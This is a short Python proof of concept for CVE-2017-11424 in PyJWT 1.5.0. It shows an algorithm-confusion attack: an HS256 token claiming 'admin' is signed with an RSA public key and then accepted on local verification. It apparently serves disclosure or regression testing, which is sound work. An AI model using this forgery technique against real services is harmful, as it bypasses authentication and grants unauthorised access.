"""PYSEC-2017-24 / CVE-2017-11424: PyJWT 1.5.0 accepts a PKCS#1 PEM RSA public key as an HMAC
secret. Whoever holds the public key (everyone) signs an HS256 token with it, and a service that
verifies RS256 tokens with that key, but lets the token pick the algorithm, accepts the forgery."""

import collections
import collections.abc

collections.Mapping = collections.abc.Mapping  # PyJWT 1.5 predates Python 3.10; this shim only

import jwt  # noqa: E402

# The service's RSA public key, in the PKCS#1 form ("BEGIN RSA PUBLIC KEY") that 1.5.0's
# check for asymmetric keys misses.
PUBLIC_KEY = """-----BEGIN RSA PUBLIC KEY-----
MIGJAoGBAKZf8eX8XnSfJui9Nb+o8QSA+X63zG41BF8H5bD6/HbqtL2cEy0M7M0C
+DZtuxqw3DhLSLd4GYOJLeOvLecIbWBjxtIc9116WqogkExeqa9p+mgpSQ/FlUYP
Z+NNNdusj0d4QeXUXZfAYWBy7Gf+NkoMwIV/+oUMS5KKCGMf6VaPAgMBAAE=
-----END RSA PUBLIC KEY-----
"""

forged = jwt.encode({"sub": "admin"}, PUBLIC_KEY, algorithm="HS256")
claims = jwt.decode(forged, PUBLIC_KEY, algorithms=["HS256", "RS256"])
print("FORGED TOKEN ACCEPTED:", claims)
